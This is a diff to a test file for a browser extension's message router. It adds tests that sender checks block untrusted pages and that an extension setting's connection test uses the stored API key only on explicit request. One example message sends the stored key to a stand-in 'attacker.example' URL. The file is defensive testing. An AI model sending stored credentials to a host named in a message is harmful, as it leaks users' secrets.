@@ -4,6 +4,7 @@ import { trackPanelPort } from '@/utils/background/panel-presence';
 import { routeMessage } from '@/utils/background/router';
 import { classifySender } from '@/utils/background/senders';
 import { PanelRequest } from '@/utils/messaging/protocol';
+import { saveApiKey } from '@/utils/settings-store';
 
 // Sender checks for every panel-only message: a content script (which a compromised or hostile page could in
 // theory drive) and senders outside the extension get no answer and cause no effect — no tab message, no script
@@ -23,7 +24,8 @@ const EXAMPLES: Record<PanelRequest['type'], PanelRequest> = {
   'ticket/read-page': { type: 'ticket/read-page', tabId: 7 },
   'ticket/use-selection': { type: 'ticket/use-selection', tabId: 7 },
   'reply/insert': { type: 'reply/insert', tabId: 7, ticketKey: 'zendesk:acme.zendesk.com:1', text: 'Hi' },
-  'provider/test': { type: 'provider/test', baseURL: 'https://attacker.example/v1', apiKey: '' },
+  // The most sensitive shape: it would send the stored key to the URL named in the message.
+  'provider/test': { type: 'provider/test', baseURL: 'https://attacker.example/v1', useStoredKey: true },
   'domains/add': { type: 'domains/add', origin: 'https://evil.example', helpdesk: 'zendesk' },
   'domains/remove': { type: 'domains/remove', origin: 'https://support.acme.example' },
   'domains/dismiss-revoked': { type: 'domains/dismiss-revoked' },
@@ -88,5 +90,53 @@ describe('router sender checks', () => {
       ),
     ).toBe('content-script');
     expect(classifySender({ url: `${EXT}/sidepanel.html` }, 'test-extension-id', origin)).toBe('foreign');
+  });
+});
+
+describe('provider/test: which key is tested', () => {
+  const STORED = 'sk-stored-0123456789abcd';
+
+  /** Answers GET /models and records the Authorization header of every request. */
+  function stubModelList(): string[] {
+    const seen: string[] = [];
+    vi.spyOn(globalThis, 'fetch').mockImplementation(async (_input, init) => {
+      seen.push(new Headers(init?.headers).get('authorization') ?? '(none)');
+      return new Response(JSON.stringify({ object: 'list', data: [{ id: 'm' }] }), {
+        headers: { 'content-type': 'application/json' },
+      });
+    });
+    return seen;
+  }
+
+  const request = { type: 'provider/test', baseURL: 'https://llm.example.com/v1', model: 'm' } as const;
+
+  it('useStoredKey: the background reads the stored key itself', async () => {
+    await saveApiKey(STORED);
+    const seen = stubModelList();
+    expect(await routeMessage({ ...request, useStoredKey: true }, panel)).toMatchObject({ ok: true });
+    expect(seen).toEqual([`Bearer ${STORED}`]);
+  });
+
+  it('a typed key is tested as typed, and no key field and no flag means no key', async () => {
+    await saveApiKey(STORED);
+    const seen = stubModelList();
+    await routeMessage({ ...request, apiKey: 'sk-typed' }, panel);
+    await routeMessage(request, panel);
+    expect(seen).toHaveLength(2);
+    expect(seen[0]).toBe('Bearer sk-typed');
+    expect(seen[1]).not.toContain(STORED);
+  });
+
+  it('refuses a typed key together with useStoredKey, and useStoredKey from a framed extension page', async () => {
+    await saveApiKey(STORED);
+    const seen = stubModelList();
+    expect(await routeMessage({ ...request, apiKey: 'sk-typed', useStoredKey: true }, panel)).toEqual({
+      ok: false,
+      code: 'bad-request',
+      message: 'Malformed request.',
+    });
+    const framed = { ...panel, frameId: 3, tab: { id: 7, url: 'https://evil.example/' } };
+    expect(await routeMessage({ ...request, useStoredKey: true }, framed)).toBeUndefined();
+    expect(seen).toEqual([]);
   });
 });
